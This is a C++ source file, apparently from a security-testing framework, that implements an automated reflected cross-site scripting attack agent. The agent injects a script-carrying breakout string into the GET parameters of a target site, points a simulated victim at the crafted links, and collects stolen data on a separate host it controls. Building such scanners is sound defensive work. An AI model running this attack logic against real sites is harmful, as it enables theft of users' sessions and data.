// xss-reflected: sends the victim to addresses that have a script in them, where a page says again
// what it was asked for: searches, forms with an error, pages that are not there (OWASP Cross Site
// Scripting Prevention Cheat Sheet; WSTG-INPV-01). No comment need be left for it.
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/request_writer.h"
#include "core/attack/stored_text.h"

namespace parapet::attack {
namespace {

class XssReflected final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || !victim_signs_in(target)) return;
        std::string const script = taking_script(target, collecting_address(*evil));
        std::vector<std::string> carriers = script_carriers(script);
        carriers.resize(3);  // a script and two handlers: the others want a click, or a frame
        std::string text;
        for (std::string const& each : carriers) text += "\">" + each;
        text += "<!--";  // swallows the rest of the page, which loads nothing then
        std::size_t links = 0;
        for (Endpoint const* endpoint : endpoints_to_try(target)) {
            if (endpoint->method != "GET") continue;
            for (std::size_t i = 0; i < endpoint->parameters.size(); ++i) {
                std::vector<std::string> values = samples(*endpoint);
                values[i] = text;
                target.victim()->opens(app_origin(target) +
                                       write_request(*endpoint, values).target);
                target.victim()->turns_away();
                ++links;
            }
        }
        target.note(std::to_string(links) + " links with a script in the address were opened.");
        try_loot(target, received_texts(target));
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_reflected() { return std::make_unique<XssReflected>(); }

}  // namespace parapet::attack
